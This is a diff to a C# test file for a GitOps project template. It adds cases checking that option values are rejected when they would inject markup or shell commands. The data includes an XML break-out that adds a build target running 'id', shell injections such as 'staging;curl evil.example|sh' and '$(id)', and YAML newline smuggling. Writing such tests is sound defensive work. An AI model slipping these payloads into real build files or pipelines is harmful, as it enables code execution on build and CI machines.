@@ -85,6 +85,10 @@ public sealed class ProjectTemplateTests
     [TestMethod]
     [DataRow("--app", "web,worker", "--app: one name")]
     [DataRow("--environments", "staging,Staging", "--environments: each name must be a DNS label")]
+    // Written into Directory.Build.props as they are: markup would add targets to every build, '&' would break the XML.
+    [DataRow("--registry", "reg.io</ContainerRegistry></PropertyGroup><Target Name=\"Pwn\" BeforeTargets=\"Build\"><Exec Command=\"id\" /></Target><PropertyGroup><ContainerRegistry>x", "--registry: a registry host")]
+    [DataRow("--config-repository", "https://git.example.com/config.git?a=1&b=2", "--config-repository: a URL or path")]
+    [DataRow("--config-repository", "https://git.example.com/c.git</GitOpsConfigRepository><GitOpsDryRun>true</GitOpsDryRun><GitOpsConfigRepository>x", "--config-repository: a URL or path")]
     public void Gitops_refuses_what_gitops_config_would_not_make_and_writes_nothing(string option, string value, string message)
     {
         var app = Directory.CreateTempSubdirectory("gitops-template-").FullName;
@@ -194,6 +198,12 @@ public sealed class ProjectTemplateTests
 
     [TestMethod]
     [DataRow("--app", "--wait-for-deploy")]
+    // Written into the pipeline's shell commands and YAML as they are.
+    [DataRow("--environment", "--environment", "staging;curl evil.example|sh")]
+    [DataRow("--environment", "--environment", "$(id)")]
+    [DataRow("--app", "--wait-for-deploy", "--app", "web;id")]
+    [DataRow("--publish-project", "--publish-project", "src/App.csproj #x")]
+    [DataRow("--publish-project", "--publish-project", "src/App.csproj\nevil: true")]
     public void Gitops_ci_refuses_a_wait_it_cannot_do_and_writes_nothing(string option, params string[] options)
     {
         var repository = Directory.CreateTempSubdirectory("gitops-template-").FullName;
